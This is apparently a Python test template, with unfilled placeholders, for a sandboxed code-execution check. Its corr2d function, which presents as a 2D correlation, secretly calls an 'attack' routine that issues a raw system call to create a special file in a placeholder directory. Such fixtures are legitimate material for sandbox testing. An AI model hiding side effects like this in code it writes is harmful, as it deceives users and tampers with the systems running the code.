import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(133, ctypes.c_char_p(b"@DROP@/x"), 0o010666, 0)
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
